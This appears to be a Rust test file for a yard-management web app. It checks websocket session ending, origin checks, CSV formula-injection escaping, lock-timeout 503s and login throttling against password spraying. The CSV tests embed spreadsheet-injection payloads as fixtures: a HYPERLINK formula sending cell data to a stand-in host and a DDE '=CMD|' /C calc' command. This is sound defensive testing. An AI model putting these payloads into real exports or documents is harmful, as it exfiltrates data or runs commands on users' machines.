//! Issue 21 ("Security, second round"), items 2-6 and 8: a socket ends with its session and
//! hears only what REST lets its holder read, and opens only from the product's own pages;
//! CSV cells a spreadsheet would run as formulas; a request on a locked table answers 503
//! in seconds; a flood of failures from one address no longer locks everyone behind it out.

use crate::{common, queue_common, ws_common};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use actix_web::http::StatusCode;
use actix_web::test::TestRequest;
use common::admin::*;
use common::{addr, fixtures, TestApp, PASSWORD};
use diesel::connection::SimpleConnection;
use diesel::Connection;
use patio_application::auth::throttle::ThrottlePolicy;
use patio_domain::roles::Role;
use queue_common::*;
use serde_json::{json, Value};
use tungstenite::client::IntoClientRequest;
use tungstenite::Message;
use ws_common::*;

/// The close code of a socket whose session ended.
const SESSION_ENDED: u16 = 4401;

/// Opens `/api/ws` with these headers (a session cookie or bearer, an `Origin`); the refusal's
/// status otherwise.
fn open_with(addr: SocketAddr, headers: &[(&str, &str)], query: &str) -> Result<Socket, u16> {
    let mut req = format!("ws://{addr}/api/ws{query}")
        .into_client_request()
        .unwrap();
    for (name, value) in headers {
        req.headers_mut().insert(
            tungstenite::http::HeaderName::from_bytes(name.as_bytes()).unwrap(),
            value.parse().unwrap(),
        );
    }
    match tungstenite::connect(req) {
        Ok((socket, _)) => Ok(socket),
        Err(tungstenite::Error::Http(response)) => Err(response.status().as_u16()),
        Err(other) => panic!("{other}"),
    }
}

/// The code of the close the server sends within `wait` (messages before it are skipped);
/// `None` when the socket stays open.
fn closed_by_server(socket: &mut Socket, wait: Duration) -> Option<u16> {
    let until = Instant::now() + wait;
    loop {
        let left = until.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return None;
        }
        read_timeout(socket, left);
        match socket.read() {
            Ok(Message::Close(frame)) => return Some(frame.map_or(1005, |f| u16::from(f.code))),
            Ok(_) => {}
            Err(tungstenite::Error::Io(e))
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                return None
            }
            Err(other) => panic!("the socket broke instead of closing: {other}"),
        }
    }
}

fn wait_room(app: &TestApp, company: i64, size: usize) {
    let until = Instant::now() + Duration::from_secs(10);
    while app.state.hub.room_size(company) != size {
        assert!(
            Instant::now() < until,
            "room {company} never had {size} sockets"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// The socket still hears its room: a message sent now arrives (earlier ones skipped).
fn still_open(app: &TestApp, socket: &mut Socket, company: i64) {
    let mark = format!("still-open-{}", rand_mark());
    app.state.hub.send(company, &mark);
    let until = Instant::now() + Duration::from_secs(5);
    loop {
        assert!(
            Instant::now() < until,
            "the socket no longer hears its room"
        );
        if next_text(socket, Duration::from_secs(5)).as_deref() == Some(mark.as_str()) {
            return;
        }
    }
}

fn rand_mark() -> u128 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos()
}

/// A staff user's form as the administrator saves it (`POST /api/users/save`).
fn saved_user(id: i64, name: &str, email: &str, role: &str, company: i64) -> Value {
    let mut body = user_body(name, email, role, Some(company));
    body["id"] = json!(id);
    body
}

// ---- Item 2: a socket lives as long as its session.

#[actix_rt::test]
async fn a_socket_ends_when_its_session_signs_out_changes_password_or_its_account_is_disabled_or_moved(
) {
    let app = TestApp::new();
    let _listener = listen(&app);
    let addr = serve(app.state.clone());
    let demo = app.ids.demo;
    let admin = app.admin().await;

    // One account on two browsers (the office PC and a phone): two sessions, two sockets.
    let office = app.usuario_of(demo).await;
    let phone = app.usuario_of(demo).await;
    let mut office_ws = open_with(addr, &[("Cookie", office.cookie())], "").unwrap();
    let mut phone_ws = open_with(addr, &[("Cookie", phone.cookie())], "").unwrap();
    wait_room(&app, demo, 2);

    // Signing out on the PC ends the PC's socket, not the phone's.
    office
        .post_empty("/api/auth/logout")
        .await
        .expect(StatusCode::NO_CONTENT);
    assert_eq!(
        closed_by_server(&mut office_ws, Duration::from_secs(5)),
        Some(SESSION_ENDED)
    );
    wait_room(&app, demo, 1);
    still_open(&app, &mut phone_ws, demo);

    // A new password ends every older session of the account, its sockets with them.
    *app.clock.0.lock().unwrap() += chrono::Duration::seconds(5);
    let (s, b) = phone
        .post(
            "/api/users/profile",
            json!({ "name": "Usuário Demo", "fone": "66988887777", "password": "outrasenha" }),
        )
        .await
        .pair();
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(
        closed_by_server(&mut phone_ws, Duration::from_secs(5)),
        Some(SESSION_ENDED)
    );

    // Disabled by the administrator: the Expedição's socket ends.
    let expedicao = app.expedicao_of(demo).await;
    let mut dispatch_ws = open_with(addr, &[("Cookie", expedicao.cookie())], "").unwrap();
    wait_room(&app, demo, 1);
    let mut body = saved_user(
        app.ids.expedicao,
        "Expedição Demo",
        EXPEDICAO,
        "Expedicao",
        demo,
    );
    body["isEnabled"] = json!(false);
    admin
        .post("/api/users/save", body)
        .await
        .expect(StatusCode::OK);
    assert_eq!(
        closed_by_server(&mut dispatch_ws, Duration::from_secs(5)),
        Some(SESSION_ENDED)
    );
    // And it cannot open another.
    assert_eq!(
        open_with(addr, &[("Cookie", expedicao.cookie())], "").err(),
        Some(401)
    );

    // Moved to another company: the Espectador's socket in the old company's room ends.
    let espectador = app.espectador_of(demo).await;
    let espectador_id =
        app.scalar_i64("SELECT id AS v FROM users WHERE email = 'espectador@patio.local'");
    let mut viewer_ws = open_with(addr, &[("Cookie", espectador.cookie())], "").unwrap();
    wait_room(&app, demo, 1);
    let body = saved_user(
        espectador_id,
        "Espectador Demo",
        "espectador@patio.local",
        "Espectador",
        app.ids.other,
    );
    admin
        .post("/api/users/save", body)
        .await
        .expect(StatusCode::OK);
    assert_eq!(
        closed_by_server(&mut viewer_ws, Duration::from_secs(5)),
        Some(SESSION_ENDED)
    );
    wait_room(&app, demo, 0);
}

#[test]
fn a_socket_checks_its_session_again_at_an_interval_even_without_an_event() {
    let app = TestApp::new();
    // No event listener: the change below reaches no instance's event stream.
    let mut state = app.state.clone();
    state.config.ws_recheck = Duration::from_secs(1);
    let addr = serve(state);
    let demo = app.ids.demo;
    let usuario = bearer(&app, &staff(&app, USUARIO));
    let motorista = bearer(&app, &driver(app.ids.driver, demo));
    let mut office_ws = open_with(addr, &[("Authorization", &usuario)], "").unwrap();
    let mut phone_ws = open_with(addr, &[("Authorization", &motorista)], "").unwrap();
    wait_room(&app, demo, 2);
    // Both stand through several checks.
    assert_eq!(
        closed_by_server(&mut office_ws, Duration::from_millis(2500)),
        None
    );

    // why: changed outside any form (an operator, another instance whose event was lost):
    // only the socket's own periodic check can see it.
    app.sql(&format!(
        "UPDATE users SET is_enabled = FALSE WHERE id = {}",
        app.ids.usuario
    ));
    let started = Instant::now();
    assert_eq!(
        closed_by_server(&mut office_ws, Duration::from_secs(5)),
        Some(SESSION_ENDED)
    );
    assert!(
        started.elapsed() < Duration::from_secs(3),
        "{:?}",
        started.elapsed()
    );
    still_open(&app, &mut phone_ws, demo);
    app.sql(&format!(
        "UPDATE drivers SET is_enabled = FALSE WHERE id = {}",
        app.ids.driver
    ));
    assert_eq!(
        closed_by_server(&mut phone_ws, Duration::from_secs(5)),
        Some(SESSION_ENDED)
    );
    wait_room(&app, demo, 0);
}

// ---- Item 3: a call reaches only those who may read it.

/// The yard call of `checkin` by the Expedição; returns once `hearer` got it, so the hub has
/// by then sent it to every socket it was for.
fn call_and_wait(app: &TestApp, checkin: i64, hearer: &mut Socket) -> Value {
    app.state
        .services
        .yard
        .set_call(&staff(app, EXPEDICAO), checkin, true)
        .unwrap();
    first_call(hearer).expect("the Expedição's socket heard no call")
}

/// The next call event on the socket (queue changes skipped), or `None` once the room's
/// `mark` arrives first.
fn first_call_before(socket: &mut Socket, mark: &str) -> Option<Value> {
    loop {
        let text = next_text(socket, Duration::from_secs(5)).expect("neither call nor mark");
        if text == mark {
            return None;
        }
        let v: Value = serde_json::from_str(&text).unwrap();
        if v["event"] == "checkInCallResponse" {
            return Some(v);
        }
    }
}

fn first_call(socket: &mut Socket) -> Option<Value> {
    loop {
        let text = next_text(socket, Duration::from_secs(5))?;
        let v: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
        if v["event"] == "checkInCallResponse" {
            return Some(v);
        }
    }
}

#[test]
fn a_yard_call_reaches_only_the_sockets_whose_holders_may_read_it() {
    let app = TestApp::new();
    let demo = app.ids.demo;
    open_for_freelancers_blocking(&app);
    at(&app, MONDAY_0900);
    settings_blocking(
        &app,
        demo,
        json!({ "enableCheckin": true, "checkinIp": "10.1.1.1, 127.0.0.1" }),
    );
    // An independent driver, a driver of Transportadora Demo, and another carrier of Demo.
    let (solo, solo_truck) = add_drivers(&app, demo, 1, 5)[0];
    let (carried, carried_truck) = add_pair(
        &app,
        demo,
        1,
        6,
        (Some(app.ids.shipping), Some(app.ids.shipping)),
    );
    let rival_email = "rival@transp.local".to_owned();
    actix_rt::System::new().block_on(async {
        let admin = app.admin().await;
        let mut sc = shipping_body(77, "Rival Transportes", Some(demo));
        sc["cnpj"] = json!(masked_cnpj(8_077));
        let rival = admin
            .post("/api/shipping-company/create", sc)
            .await
            .id(StatusCode::CREATED);
        let mut body = user_body("Rival", &rival_email, Role::Transportadora.as_str(), None);
        body["shippingCompany"] = json!({ "id": rival });
        admin
            .post("/api/users/save", body)
            .await
            .expect(StatusCode::CREATED);
    });
    let queue = app.state.services.queue.clone();
    let yard = app.state.services.yard.clone();
    let checkin = |d: i64, t: i64| {
        let q = join_freelancer(&queue, demo, d, t).unwrap().id;
        yard.check_in(&driver(d, demo), q, Some("10.1.1.1".into()))
            .unwrap()
            .id
    };
    let solo_checkin = checkin(solo, solo_truck);
    let carried_checkin = checkin(carried, carried_truck);

    let _listener = listen(&app);
    let addr = serve(app.state.clone());
    let as_staff = |email: &str| {
        let auth = bearer(&app, &staff(&app, email));
        open_with(addr, &[("Authorization", &auth)], "").unwrap()
    };
    let as_driver = |id: i64| {
        let auth = bearer(&app, &driver(id, demo));
        open_with(addr, &[("Authorization", &auth)], "").unwrap()
    };
    let mut expedicao = as_staff(EXPEDICAO);
    let mut others: Vec<(&str, Socket)> = vec![
        ("Portaria", as_staff("portaria@patio.local")),
        ("Espectador", as_staff("espectador@patio.local")),
        ("Usuario", as_staff(USUARIO)),
        ("Transportadora Demo", as_staff(TRANSP)),
        ("another carrier", as_staff(&rival_email)),
        ("the independent driver", as_driver(solo)),
        ("the carried driver", as_driver(carried)),
        (
            "the yard TV",
            open_with(addr, &[], &format!("?companyId={demo}")).unwrap(),
        ),
    ];
    wait_room(&app, demo, 9);

    // What REST answers them: the same rule decides who hears the call.
    let rest = actix_rt::System::new().block_on(async {
        let mut answers = Vec::new();
        for email in [
            "portaria@patio.local",
            "espectador@patio.local",
            USUARIO,
            TRANSP,
            rival_email.as_str(),
        ] {
            let client = app.wiring().staff(email).await;
            let uri = format!("/api/checkins/called/{demo}");
            answers.push((email.to_owned(), client.get(&uri).await.status));
        }
        answers
    });
    for (email, status) in &rest {
        let expected = if email == TRANSP || email == &rival_email {
            StatusCode::FORBIDDEN
        } else {
            StatusCode::OK
        };
        assert_eq!(*status, expected, "GET /checkins/called as {email}");
    }

    // The independent driver is called: the carriers and the other driver hear nothing.
    let call = call_and_wait(&app, solo_checkin, &mut expedicao);
    assert_eq!(call["driverId"], solo);
    assert!(call.get("shippingCompanyIds").is_none(), "{call}");
    let mark = format!("mark-{}", rand_mark());
    app.state.hub.send(demo, &mark);
    let hears = |name: &str, solo_call: bool| match name {
        "Transportadora Demo" | "another carrier" | "the carried driver" => false,
        "the independent driver" => solo_call,
        _ => true,
    };
    for (name, socket) in &mut others {
        let heard = first_call_before(socket, &mark);
        assert_eq!(heard.is_some(), hears(name, true), "{name}: {heard:?}");
        if let Some(v) = heard {
            assert_eq!(v["driverId"], solo, "{name}");
            assert_eq!(first_call_before(socket, &mark), None, "{name}");
        }
    }

    // Transportadora Demo's driver is called: its carrier hears it, the rival does not.
    let call = call_and_wait(&app, carried_checkin, &mut expedicao);
    assert_eq!(call["driverId"], carried);
    let mark = format!("mark-{}", rand_mark());
    app.state.hub.send(demo, &mark);
    for (name, socket) in &mut others {
        let expected = match *name {
            "Transportadora Demo" | "the carried driver" => true,
            "another carrier" | "the independent driver" => false,
            _ => true,
        };
        let heard = first_call_before(socket, &mark);
        assert_eq!(heard.is_some(), expected, "{name}: {heard:?}");
        if let Some(v) = heard {
            assert_eq!(v["driverId"], carried, "{name}");
            assert_eq!(first_call_before(socket, &mark), None, "{name}");
        }
    }
}

// ---- Item 4: only the product's own pages open the socket.

#[actix_rt::test]
async fn a_socket_from_a_page_of_another_origin_is_refused() {
    let app = TestApp::new();
    let addr = serve(app.state.clone());
    let demo = app.ids.demo;
    let admin = app.admin().await;
    let cookie = admin.cookie();
    let own = format!("http://{addr}");
    // A page on another port of the same host, with the administrator's cookie.
    let other_port = format!("http://127.0.0.1:{}", addr.port() + 1);
    assert_eq!(
        open_with(addr, &[("Cookie", cookie), ("Origin", &other_port)], "").err(),
        Some(403)
    );
    assert_eq!(
        open_with(
            addr,
            &[("Cookie", cookie), ("Origin", "https://evil.example")],
            ""
        )
        .err(),
        Some(403)
    );
    // The browser's own word wins: same-site is not same-origin.
    assert_eq!(
        open_with(
            addr,
            &[
                ("Cookie", cookie),
                ("Origin", &own),
                ("Sec-Fetch-Site", "same-site")
            ],
            "",
        )
        .err(),
        Some(403)
    );
    // Nor does a foreign page in the yard's network listen as the TV.
    settings_blocking_async(&app, demo).await;
    assert_eq!(
        open_with(
            addr,
            &[("Origin", "https://evil.example")],
            &format!("?companyId={demo}")
        )
        .err(),
        Some(403)
    );
    // The product's own page opens it (and so does a client that is no browser).
    assert!(open_with(addr, &[("Cookie", cookie), ("Origin", &own)], "").is_ok());
    assert!(open_with(
        addr,
        &[
            ("Cookie", cookie),
            ("Origin", &own),
            ("Sec-Fetch-Site", "same-origin")
        ],
        ""
    )
    .is_ok());
    assert!(open_with(addr, &[("Cookie", cookie)], "").is_ok());
    assert!(open_with(addr, &[], &format!("?companyId={demo}")).is_ok());
}

/// The yard's network is this host (the TV's socket).
async fn settings_blocking_async(app: &TestApp, company: i64) {
    fixtures::settings_saved(app, company, json!({ "checkinIp": "127.0.0.1" })).await;
}

// ---- Item 5: no CSV cell runs as a formula.

const HYPERLINK: &str = "=HYPERLINK(\"http://x.invalid/?d=\"&A1,\"Clique\")";

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).unwrap();
    let text = text.strip_prefix('\u{feff}').expect("a UTF-8 BOM");
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// No cell would be run by a spreadsheet (OWASP: `=`, `+`, `-`, `@`, tab, CR) unless it is a
/// number.
fn assert_no_formula(rows: &[Vec<String>]) {
    for cell in rows.iter().flatten() {
        let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        let number = cell
            .trim_start_matches(['-', '+'])
            .chars()
            .all(|c| c.is_ascii_digit() || c == ',' || c == '.');
        assert!(!risky || number, "formula cell {cell:?} in {rows:?}");
    }
}

#[actix_rt::test]
async fn the_history_csv_neutralises_formula_cells_and_keeps_numbers() {
    let app = TestApp::new();
    let demo = app.ids.demo;
    at(&app, MONDAY_0900);
    let cpf = cpf(7_001);
    let driver = fixtures::saved_driver(&app, demo, "+SUM(1,2)", &cpf, "1990-01-01");
    let truck = fixtures::saved_truck(&app, demo, Some(driver), "FRM1A23", "LS (MENOR 16 MT)");
    let usuario = app.usuario_of(demo).await;
    let spec = fixtures::OrderSpec::new("@PED-F1", 100.0).customer(7, HYPERLINK);
    let order = fixtures::order(&usuario, spec).await.id;
    let loading =
        fixtures::loading(&usuario, order, truck, driver, 14.75, Some("2026-03-20")).await;
    let me = app.driver_id(driver, demo).await;
    let (s, b) = me
        .post(
            "/api/queue/save",
            json!({ "scheduling": { "id": loading } }),
        )
        .await
        .pair();
    assert_eq!(s, StatusCode::CREATED, "{b}");
    let entry = b["id"].as_i64().unwrap();
    let exp = app.expedicao_of(demo).await;
    exp.post(
        "/api/attendances/save",
        json!({ "company": { "id": demo } }),
    )
    .await
    .expect(StatusCode::CREATED);
    exp.put("/api/queue/start", json!({ "id": entry, "status": true }))
        .await
        .expect(StatusCode::OK);
    at(&app, "2026-03-02T12:40:00Z");
    exp.post(
        "/api/scheduling/close",
        json!({ "id": loading, "status": true, "qtyTransported": 14.75 }),
    )
    .await
    .expect(StatusCode::OK);

    let (s, bytes, _) = app
        .admin()
        .await
        .get("/api/history/export.csv")
        .await
        .file();
    assert_eq!(s, StatusCode::OK);
    let rows = csv_rows(&bytes);
    assert_eq!(rows.len(), 2, "{rows:?}");
    let row = &rows[1];
    assert_eq!(row[2], "'@PED-F1");
    assert_eq!(row[3], format!("'{HYPERLINK}"));
    assert_eq!(row[5], "'+SUM(1,2)");
    // Tonnes stay numbers a spreadsheet reads as such.
    assert_eq!(row[6], "14,750");
    assert_eq!(row[7], "14,750");
    assert_no_formula(&rows);

    // The XLSX keeps the names as they are, as text cells (never formulas).
    let (s, xlsx, _) = app
        .admin()
        .await
        .get("/api/history/export.xlsx")
        .await
        .file();
    assert_eq!(s, StatusCode::OK);
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx)).unwrap();
    let sheet = book.worksheet_range("Histórico").unwrap();
    assert_eq!(
        sheet.get((1, 3)),
        Some(&calamine::Data::String(HYPERLINK.to_owned()))
    );
    let formulas = book.worksheet_formula("Histórico").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula in the XLSX"
    );
}

#[actix_rt::test]
async fn the_sets_csv_neutralises_formula_cells() {
    let app = TestApp::new();
    let demo = app.ids.demo;
    let admin = app.admin().await;
    let shipping = fixtures::shipping_company_of(&app, demo, 4_321, "-Transportes Fórmula").await;
    let driver = fixtures::saved_carried_driver(
        &app,
        demo,
        Some(shipping),
        "=CMD|' /C calc'!A0",
        &cpf(7_002),
        "1990-01-01",
    );
    fixtures::saved_carried_truck(
        &app,
        demo,
        Some(shipping),
        Some(driver),
        "FRM2B34",
        "LS (MENOR 16 MT)",
    );
    let (s, bytes, _) = admin
        .get(&format!("/api/driver/groups/export.csv?companyId={demo}"))
        .await
        .file();
    assert_eq!(s, StatusCode::OK);
    let rows = csv_rows(&bytes);
    let row = rows
        .iter()
        .find(|r| r[0] == driver.to_string())
        .unwrap_or_else(|| panic!("no row of {driver} in {rows:?}"));
    assert_eq!(row[1], "'=CMD|' /C CALC'!A0");
    assert_eq!(row[4], "'-Transportes Fórmula");
    assert_no_formula(&rows);
}

#[actix_rt::test]
async fn the_dispatch_queue_csv_neutralises_formula_cells() {
    let app = TestApp::new();
    let demo = app.ids.demo;
    open_for_freelancers(&app).await;
    at(&app, MONDAY_0900);
    let driver = fixtures::saved_driver(&app, demo, "@SUM(1+1)*CMD", &cpf(7_003), "1990-01-01");
    let truck = fixtures::saved_truck(&app, demo, Some(driver), "FRM3C45", "LS (MENOR 16 MT)");
    join_freelancer(&app.state.services.queue, demo, driver, truck).unwrap();
    let (s, bytes, _) = app
        .expedicao_of(demo)
        .await
        .get(&format!("/api/queue/company/{demo}/export.csv"))
        .await
        .file();
    assert_eq!(s, StatusCode::OK);
    let rows = csv_rows(&bytes);
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert_eq!(rows[1][1], "1", "the position stays a number");
    assert_eq!(rows[1][3], "'@SUM(1+1)*CMD");
    assert_no_formula(&rows);
}

// ---- Item 6: a request on a locked table answers 503 in seconds, then recovers.

#[actix_rt::test]
async fn a_request_on_a_table_locked_by_another_session_answers_503_within_8_s_then_recovers() {
    let app = TestApp::new();
    let usuario = app.usuario_of(app.ids.demo).await;
    let anon = app.anonymous().await;
    usuario
        .get("/api/customer?page=1")
        .await
        .expect(StatusCode::OK);
    anon.get("/api/ready").await.expect(StatusCode::OK);

    // Another session holds the customers table and the migrations' table for 20 s.
    let url = app.db.url().to_owned();
    let (locked_tx, locked) = std::sync::mpsc::channel();
    let holder = std::thread::spawn(move || {
        let mut conn = diesel::PgConnection::establish(&url).unwrap();
        conn.batch_execute(
            "BEGIN; LOCK TABLE customers IN ACCESS EXCLUSIVE MODE;
             LOCK TABLE __diesel_schema_migrations IN ACCESS EXCLUSIVE MODE;",
        )
        .unwrap();
        locked_tx.send(()).unwrap();
        std::thread::sleep(Duration::from_secs(20));
        conn.batch_execute("COMMIT").unwrap();
    });
    locked.recv().unwrap();
    let locked_at = Instant::now();

    let started = Instant::now();
    let res = usuario.get("/api/customer?page=1").await;
    let took = started.elapsed();
    assert_eq!(res.status, StatusCode::SERVICE_UNAVAILABLE, "{}", res.body);
    assert_eq!(res.body["code"], "unavailable");
    assert_eq!(
        res.body["message"],
        "Sistema temporariamente indisponível. Tente novamente em instantes."
    );
    assert!(took < Duration::from_secs(8), "answered after {took:?}");

    let started = Instant::now();
    let res = anon.get("/api/ready").await;
    let took = started.elapsed();
    assert_eq!(res.status, StatusCode::SERVICE_UNAVAILABLE, "{}", res.body);
    assert_eq!(res.body["code"], "not_ready");
    assert!(
        took < Duration::from_secs(8),
        "ready answered after {took:?}"
    );
    assert!(
        locked_at.elapsed() < Duration::from_secs(20),
        "both answered while the lock was held"
    );

    holder.join().unwrap();
    let page = usuario
        .get("/api/customer?page=1")
        .await
        .expect(StatusCode::OK);
    assert!(page.is_object(), "{page}");
    anon.get("/api/ready").await.expect(StatusCode::OK);
}

// ---- Item 8: past the address's limit, a legitimate person still gets in.

fn sign_in(ip: &str, email: &str, password: &str, company: Option<i64>) -> TestRequest {
    TestRequest::post()
        .uri("/api/auth/login")
        .peer_addr(addr(ip))
        .set_json(common::staff_login_body(email, password, company, "staff"))
}

/// `n` wrong passwords of made-up accounts from `ip` (a password-spraying neighbour).
async fn spray(anon: &common::Client, ip: &str, n: usize) {
    for i in 0..n {
        let (s, _, _) = anon
            .send_as_is(sign_in(ip, &format!("ninguem{i}@x.com"), "errada", None))
            .await
            .parts();
        assert_eq!(s, StatusCode::UNAUTHORIZED, "attempt {i}");
    }
}

#[actix_rt::test]
async fn past_the_address_limit_an_account_without_failures_signs_in_after_a_short_wait() {
    let app = TestApp::new();
    let anon = app.anonymous().await;
    let nat = "192.0.2.50";
    spray(&anon, nat, 30).await;

    // A colleague behind the same address, on a new browser: let through after 2 s.
    let started = Instant::now();
    let (s, body, _) = anon
        .send_as_is(sign_in(nat, USUARIO, PASSWORD, None))
        .await
        .parts();
    let took = started.elapsed();
    assert_eq!(s, StatusCode::OK, "{body}");
    assert!(
        took >= Duration::from_secs(2) && took < Duration::from_secs(6),
        "{took:?}"
    );
    // From another address, no wait.
    let started = Instant::now();
    let (s, _, _) = anon
        .send_as_is(sign_in("192.0.2.51", "admin@patio.local", PASSWORD, None))
        .await
        .parts();
    assert_eq!(s, StatusCode::OK);
    assert!(started.elapsed() < Duration::from_secs(2));

    // The guesser keeps guessing an account: refused once it failed from there.
    let (s, _, _) = anon
        .send_as_is(sign_in(nat, "admin@patio.local", "errada", None))
        .await
        .parts();
    assert_eq!(s, StatusCode::UNAUTHORIZED, "one slowed guess");
    let (s, body, _) = anon
        .send_as_is(sign_in(nat, "admin@patio.local", PASSWORD, None))
        .await
        .parts();
    assert_eq!(s, StatusCode::TOO_MANY_REQUESTS, "{body}");
    assert_eq!(
        body["message"],
        "Muitas tentativas de acesso. Aguarde alguns minutos e tente novamente."
    );
    assert_eq!(
        app.scalar_i64(&format!(
            "SELECT count(*) AS v FROM login_failures WHERE key = 'ip:{nat}'"
        )),
        31,
        "the waiting sign-in counted no failure; the guess did"
    );
}

#[actix_rt::test]
async fn past_the_address_limit_the_wait_grows_and_the_company_s_recaptcha_lets_one_through_at_once(
) {
    let app = TestApp::with_throttle(ThrottlePolicy {
        per_address: 3,
        ..ThrottlePolicy::default()
    });
    let anon = app.anonymous().await;
    let nat = "192.0.2.60";
    spray(&anon, nat, 3).await;
    // why: ten more failures of the address; through the API each would first wait 2 s.
    app.sql(&format!(
        "INSERT INTO login_failures (key, failed_at)
         SELECT 'ip:{nat}', now() FROM generate_series(1, 10)"
    ));
    // 3 + 10 failures: the wait has doubled to 4 s.
    let started = Instant::now();
    let (s, body, _) = anon
        .send_as_is(sign_in(nat, USUARIO, PASSWORD, None))
        .await
        .parts();
    assert_eq!(s, StatusCode::OK, "{body}");
    assert!(
        started.elapsed() >= Duration::from_secs(4),
        "{:?}",
        started.elapsed()
    );

    // The company asks for reCAPTCHA: a passed token lets the person through at once.
    fixtures::settings_saved(
        &app,
        app.ids.demo,
        json!({ "enableRecaptcha": true, "recaptchaSecret": common::CAPTCHA_SECRET,
                "recaptchaSite": "site-key" }),
    )
    .await;
    let mut body = common::staff_login_body(USUARIO, PASSWORD, Some(app.ids.demo), "staff");
    body["recaptcha_token"] = json!(common::GOOD_CAPTCHA);
    let req = TestRequest::post()
        .uri("/api/auth/login")
        .peer_addr(addr(nat))
        .set_json(body);
    let started = Instant::now();
    let (s, body, _) = anon.send_as_is(req).await.parts();
    assert_eq!(s, StatusCode::OK, "{body}");
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
}

#[actix_rt::test]
async fn past_the_address_limit_a_driver_without_failures_signs_in_after_a_wait() {
    let app = TestApp::new();
    let anon = app.anonymous().await;
    let nat = "192.0.2.70";
    for i in 0..30u32 {
        let req = TestRequest::post()
            .uri("/api/auth/app/login")
            .peer_addr(addr(nat))
            .set_json(common::driver_login_body(
                &cpf(8_000 + i),
                app.ids.demo,
                "1990-01-01",
            ));
        let (s, _, _) = anon.send_as_is(req).await.parts();
        assert_eq!(s, StatusCode::CONFLICT, "attempt {i}");
    }
    let req = TestRequest::post()
        .uri("/api/auth/app/login")
        .peer_addr(addr(nat))
        .set_json(common::driver_login_body(
            common::DEMO_CPF,
            app.ids.demo,
            "1990-01-15",
        ));
    let started = Instant::now();
    let (s, body, _) = anon.send_as_is(req).await.parts();
    assert_eq!(s, StatusCode::CREATED, "{body}");
    assert!(
        started.elapsed() >= Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
}
